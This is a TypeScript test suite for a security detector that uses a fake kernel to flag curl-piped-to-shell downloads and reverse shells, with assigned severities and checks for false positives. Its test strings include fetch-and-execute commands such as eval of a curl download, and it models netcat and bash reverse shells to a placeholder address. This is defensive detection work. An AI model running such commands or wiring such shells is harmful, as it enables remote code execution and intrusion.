import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Stream } from '../decode/process-events.ts';
import type { ExecOptions, FakeKernel, FakeProcess } from '../lineage/testing/fake-kernel.ts';
import { foundIn } from './testing/told-findings.ts';

const pipe = (file: number): Stream => ({ kind: 'pipe', file });
const network: Stream = { kind: 'network', file: 77 };

function goTo(kernel: FakeKernel, process: FakeProcess, address = '203.0.113.7'): void {
  kernel.resolve(process, 'get.example.com', [address]);
  kernel.connect(process, address, 443);
}

/** `curl | program`; the interpreter first, or the download. */
function piped(interpreter: ExecOptions & { path: string }, isDownloadFirst: boolean, address?: string): string[] {
  return foundIn((kernel, shell) => {
    const reader = () => kernel.spawn(shell, interpreter.path, { ...interpreter, stdin: pipe(5) });
    const early = isDownloadFirst ? null : reader();
    const curl = kernel.spawn(shell, '/usr/bin/curl', { stdout: pipe(5) });
    goTo(kernel, curl, address);
    const late = isDownloadFirst ? reader() : null;
    for (const process of [curl, early, late]) if (process !== null) kernel.exit(process);
  });
}

test('what is downloaded into an interpreter is found by the pipe between them, whoever is first', () => {
  for (const argv of [
    ['sh'],
    ['bash', '-s', '--', '-y'],
    ['bash', '-'],
    ['bash', '-e'],
    ['sh', '-eu'],
    ['python3'],
    ['node', '-'],
  ])
    for (const isDownloadFirst of [true, false]) {
      const found = piped({ path: `/usr/bin/${argv[0]}`, argv }, isDownloadFirst);
      assert.deepEqual(found, ['Medium piped-download get.example.com'], argv.join(' '));
    }
  assert.deepEqual(piped({ path: '/bin/sh' }, true, '10.0.0.1'), ['Low piped-download get.example.com']);
});

test('filters between a download and an interpreter hide nothing', () => {
  const found = foundIn((kernel, shell) => {
    const curl = kernel.spawn(shell, '/usr/bin/curl', { stdout: pipe(5) });
    kernel.spawn(shell, '/usr/bin/base64', { stdin: pipe(5), stdout: pipe(6) });
    kernel.spawn(shell, '/usr/bin/tee', { stdin: pipe(6), stdout: pipe(7) });
    kernel.spawn(shell, '/bin/sh', { stdin: pipe(7) });
    goTo(kernel, curl);
  });
  assert.deepEqual(found, ['Medium piped-download get.example.com']);
});

test('pipes into interpreters with a program, and from what only stays on this machine, are no finding', () => {
  for (const argv of [
    ['sh', '-c', 'cat'],
    ['python3', '-m', 'json.tool'],
    ['node', 'build.js'],
    ['bash', '--version'],
    ['perl', '-ne', 'x'],
  ])
    assert.deepEqual(piped({ path: `/usr/bin/${argv[0]}`, argv }, true), [], argv.join(' '));
  assert.deepEqual(piped({ path: '/usr/bin/tar', argv: ['tar', 'x'] }, true), []);
  assert.deepEqual(piped({ path: '/usr/bin/sh' }, true, '127.0.0.1'), []);
  const other = foundIn((kernel, shell) => {
    kernel.spawn(shell, '/usr/bin/cat', { stdout: pipe(8) });
    kernel.spawn(shell, '/bin/sh', { stdin: pipe(8) });
    goTo(kernel, kernel.spawn(shell, '/usr/bin/curl', { stdout: pipe(9) }));
  });
  assert.deepEqual(other, []);
});

test('a shell whose standard input is the network is found, and one between pipes that lead there', () => {
  const direct = foundIn((kernel, shell) => {
    kernel.connect(shell, '203.0.113.7', 4444);
    kernel.spawn(shell, '/usr/bin/bash', { argv: ['bash', '-i'], stdin: network, stdout: network });
  });
  assert.deepEqual(direct, ['Critical reverse-shell 203.0.113.7:4444']);
  const bound = foundIn((kernel, shell) => void kernel.spawn(shell, '/bin/sh', { stdin: network }));
  assert.deepEqual(bound, ['Critical reverse-shell a host that connected to it']);
  const between = foundIn((kernel, shell) => {
    kernel.spawn(shell, '/usr/bin/cat', { stdout: pipe(1) });
    kernel.spawn(shell, '/bin/sh', { argv: ['/bin/sh', '-i'], stdin: pipe(1), stdout: pipe(2) });
    kernel.connect(kernel.spawn(shell, '/usr/bin/nc', { stdin: pipe(2) }), '203.0.113.7', 4444);
  });
  assert.deepEqual(between, ['High reverse-shell 203.0.113.7:4444']);
});

test('shells with scripts, terminals, pipes and sockets of this machine are no reverse shells', () => {
  const found = foundIn((kernel, shell) => {
    kernel.connect(shell, '203.0.113.7', 443);
    for (const kind of ['device', 'file', 'closed', 'other'] as const)
      kernel.run(shell, '/usr/bin/bash', { argv: ['bash', '-i'], stdin: { kind, file: 1 } });
    const node = kernel.spawn(shell, '/usr/bin/node', { argv: ['node', 'server.js'] });
    kernel.connect(node, '127.0.0.1', 5432);
    for (const stdin of [{ kind: 'unix', file: 4 }, pipe(4)] as const) kernel.run(node, '/bin/sh', { stdin });
    const own = { kind: 'device', file: (136 << 20) | 3 } as const;
    kernel.run(shell, '/usr/bin/bash', { argv: ['bash'], stdin: own, stdout: own });
    kernel.run(shell, '/usr/bin/bash', { argv: ['bash', '/usr/lib/inetd/handler'], stdin: network });
    kernel.run(shell, '/usr/bin/git', { argv: ['git', 'upload-pack'], stdin: network });
  });
  assert.deepEqual(found, []);
});

test('a shell that answers into a socket, or sits at a terminal of a process that went to the network, is a reverse shell', () => {
  const answering = foundIn((kernel, shell) => {
    kernel.connect(shell, '203.0.113.7', 4444);
    kernel.spawn(shell, '/bin/sh', { stdin: pipe(1), stdout: network });
  });
  assert.ok(answering.includes('Critical reverse-shell 203.0.113.7:4444'), answering.join());
  const terminal = { kind: 'device', file: (136 << 20) | 9 } as const;
  const pseudo = foundIn((kernel, shell) => {
    const python = kernel.spawn(shell, '/usr/bin/python3', { argv: ['python3', '-c', 'pty.spawn'] });
    kernel.connect(python, '203.0.113.7', 4444);
    kernel.spawn(python, '/bin/sh', { stdin: terminal, stdout: terminal });
  });
  assert.deepEqual(pseudo, ['High reverse-shell 203.0.113.7:4444']);
  const nowhere = { kind: 'device', file: (1 << 20) | 3 } as const;
  const deaf = foundIn((kernel, shell) => {
    kernel.connect(shell, '203.0.113.7', 443);
    kernel.run(shell, '/bin/sh', { stdin: nowhere, stdout: nowhere });
  });
  assert.deepEqual(deaf, [], '/dev/null is no terminal');
});

test('a copied shell is one by any name, and a program of the system that answers a caller is none', () => {
  const both = { stdin: network, stdout: network };
  const found = (options: ExecOptions & { path: string }, address?: string) =>
    foundIn((kernel, shell) => {
      if (address !== undefined) kernel.connect(shell, address, 4444);
      kernel.run(shell, options.path, { ...both, ...options });
    }).filter((line) => line.includes('reverse-shell'));
  const own = ['High reverse-shell 203.0.113.7:4444'];
  assert.deepEqual(found({ path: '/home/runner/work/web/web/httpd' }, '203.0.113.7'), own);
  assert.deepEqual(found({ path: '/memfd:x', traits: { memfd: true } }, '203.0.113.7'), own);
  assert.deepEqual(found({ path: '/usr/bin/git' }, '203.0.113.7'), []);
  assert.deepEqual(found({ path: '/home/runner/work/web/web/handler' }), []);
  assert.deepEqual(found({ path: '/home/runner/work/web/web/handler' }, '127.0.0.1'), []);
});

test('a shell whose text says to execute a download is found where that download is', () => {
  const found = (text: string, path = '/usr/bin/bash') =>
    foundIn((kernel, shell) => {
      const told = kernel.spawn(shell, path, { argv: [path, '-c', text] });
      goTo(kernel, kernel.spawn(told, '/usr/bin/curl', { stdout: pipe(5) }));
    });
  for (const text of [
    'eval "$(curl -fsS https://get.example.com)"',
    '/bin/sh -c "$(curl -fsSL https://get.example.com)"',
    'cd /tmp && source <(wget -qO- https://get.example.com)',
    'bash <<< "$(curl https://get.example.com)"',
    'python3 -c "$(curl https://get.example.com)"',
  ])
    assert.deepEqual(found(text), ['Medium piped-download get.example.com'], text);
  for (const text of [
    'version=$(curl https://get.example.com | jq -r .tag); echo "$version"',
    "eval 'tag=$(curl https://get.example.com)'",
    'bash -c "echo $(curl https://get.example.com)"',
    'source env.sh; curl https://get.example.com',
  ])
    assert.deepEqual(found(text), [], text);
});

test('a shell that is fed by a process that went to the network, or reads a descriptor beside a download, is found', () => {
  const fed = foundIn((kernel, shell) => {
    for (const stdin of [{ kind: 'unix', file: 4 }, pipe(4)] as const) {
      const node = kernel.spawn(shell, '/usr/bin/node', { argv: ['node', '-e', 'x'] });
      goTo(kernel, node);
      kernel.run(node, '/bin/sh', { stdin });
    }
  });
  assert.deepEqual(fed, ['Medium piped-download get.example.com']);
  const beside = (isDownloadFirst: boolean) =>
    foundIn((kernel, shell) => {
      const curl = kernel.spawn(shell, '/usr/bin/curl', { stdout: pipe(5) });
      if (isDownloadFirst) goTo(kernel, curl);
      kernel.spawn(shell, '/usr/bin/bash', { argv: ['bash', '/dev/fd/63'] });
      if (!isDownloadFirst) goTo(kernel, curl);
    });
  for (const order of [true, false]) assert.deepEqual(beside(order), ['Medium piped-download get.example.com']);
});

test('a shell between pipes or sockets of its parent is one from the network, whichever of both comes first', () => {
  const unix = (file: number): Stream => ({ kind: 'unix', file });
  for (const isShellFirst of [true, false])
    for (const [argv, severity] of [
      [['/bin/sh'], 'Medium'],
      [['/bin/sh', '-i'], 'High'],
    ] as const) {
      const found = foundIn((kernel, shell) => {
        const node = kernel.spawn(shell, '/usr/bin/node', { argv: ['node', '-e', 'x'] });
        if (!isShellFirst) kernel.connect(node, '203.0.113.7', 4444);
        kernel.spawn(node, '/bin/sh', { argv: [...argv], stdin: unix(4), stdout: unix(5) });
        if (isShellFirst) kernel.connect(node, '203.0.113.7', 4444);
      });
      assert.ok(found.includes(`${severity} reverse-shell 203.0.113.7:4444`), found.join());
    }
});

test('a pipe line from the network through a shell and back is a reverse shell, by a named pipe or a second connection', () => {
  const fifo = foundIn((kernel, shell) => {
    const nc = kernel.spawn(shell, '/bin/nc', { stdin: pipe(2), stdout: pipe(1) });
    kernel.connect(nc, '203.0.113.7', 53);
    kernel.spawn(shell, '/bin/sh', { argv: ['sh'], stdin: pipe(1), stdout: pipe(2) });
  });
  assert.ok(fifo.includes('High reverse-shell 203.0.113.7:53'), fifo.join());
  const answered = foundIn((kernel, shell) => {
    kernel.spawn(shell, '/bin/cat', { argv: ['cat', 'f'], stdout: pipe(1) });
    kernel.spawn(shell, '/bin/sh', { argv: ['sh'], stdin: pipe(1), stdout: pipe(2) });
    const nc = kernel.spawn(shell, '/bin/nc', { stdin: pipe(2), stdout: pipe(13) });
    kernel.connect(nc, '203.0.113.7', 4444);
  });
  assert.deepEqual(answered, ['Medium reverse-shell 203.0.113.7:4444']);
  const posted = foundIn((kernel, shell) => {
    kernel.spawn(shell, '/bin/cat', { argv: ['cat', 'f'], stdout: pipe(1) });
    kernel.spawn(shell, '/bin/sh', { argv: ['sh'], stdin: pipe(1), stdout: pipe(2) });
    kernel.connect(kernel.spawn(shell, '/usr/bin/curl', { stdin: pipe(2) }), '203.0.113.7', 443);
  });
  assert.deepEqual(posted, []);
});

test('what a shell starts with its output in its own connection is found, and what a shell on a socket runs is not found again', () => {
  const found = foundIn((kernel, shell) => {
    kernel.connect(shell, '203.0.113.7', 4444);
    kernel.run(shell, '/usr/bin/id', { stdin: pipe(1), stdout: network });
    kernel.spawn(shell, '/usr/bin/cat', { stdin: network, stdout: pipe(2) });
    kernel.run(shell, '/usr/bin/whoami', { stdin: pipe(1), stdout: network });
  });
  assert.deepEqual(found, ['Medium reverse-shell 203.0.113.7:4444']);
  const once = foundIn((kernel, shell) => {
    kernel.connect(shell, '203.0.113.7', 4444);
    const bash = kernel.spawn(shell, '/bin/busybox', { argv: ['busybox', 'sh'], stdin: network, stdout: network });
    kernel.run(bash, '/usr/bin/id', { stdin: network, stdout: network });
  });
  assert.deepEqual(once, ['Critical reverse-shell 203.0.113.7:4444']);
});

/** A shell starts curl for a substitution, and does this while it runs or afterwards. */
function substituted(act: (kernel: FakeKernel, bash: FakeProcess) => void, when: 'meanwhile' | 'afterwards'): string[] {
  return foundIn((kernel, shell) => {
    const bash = kernel.spawn(shell, '/usr/bin/bash', { argv: ['bash', 'install.sh'] });
    const curl = kernel.spawn(bash, '/usr/bin/curl', { argv: ['curl', 'x'], stdout: pipe(5) });
    goTo(kernel, curl);
    if (when === 'meanwhile') act(kernel, bash);
    kernel.exit(curl);
    if (when === 'afterwards') act(kernel, bash);
  });
}

test('a script that a shell makes of a download is found by the pipe that it writes meanwhile, or the first line of a file', () => {
  const found = ['Medium piped-download get.example.com'];
  const sh = (kernel: FakeKernel, bash: FakeProcess) =>
    kernel.run(bash, '/bin/sh', { argv: ['sh'], stdin: pipe(9), stdout: pipe(10) });
  assert.deepEqual(substituted(sh, 'meanwhile'), found);
  const whole = ['sh', '-c', '#!/bin/sh\necho done'];
  assert.deepEqual(
    substituted((kernel, bash) => kernel.run(bash, '/bin/sh', { argv: whole }), 'afterwards'),
    found,
  );
});

test('a shell whose own process downloads what it then reads is found (`bash <<< "$(curl …)"`)', () => {
  const found = foundIn((kernel, shell) => {
    const forked = kernel.fork(shell);
    const curl = kernel.spawn(forked, '/usr/bin/curl', { argv: ['curl', 'x'], stdout: pipe(5) });
    goTo(kernel, curl);
    kernel.exit(curl);
    kernel.exec(forked, '/usr/bin/bash', { argv: ['bash'], stdin: pipe(9) });
  });
  assert.deepEqual(found, ['Medium piped-download get.example.com']);
});

test('a version that was downloaded and a text that is then given to an interpreter are two things', () => {
  for (const argv of [['sh'], ['python3', '-'], ['sh', '-c', 'make']])
    assert.deepEqual(
      substituted((kernel, bash) => kernel.run(bash, `/usr/bin/${argv[0]}`, { argv, stdin: pipe(9) }), 'afterwards'),
      [],
    );
  const toFile = foundIn((kernel, shell) => {
    const bash = kernel.spawn(shell, '/usr/bin/bash', { argv: ['bash', 'install.sh'], stdout: pipe(5) });
    const python = kernel.spawn(bash, '/usr/bin/python3', { argv: ['python3'], stdin: pipe(9), stdout: pipe(5) });
    goTo(kernel, kernel.spawn(bash, '/usr/bin/curl', { argv: ['curl', '-o', 'x'], stdout: pipe(5) }));
    kernel.exit(python);
  });
  assert.deepEqual(toFile, [], 'what curl says goes where all of the script’s does');
});
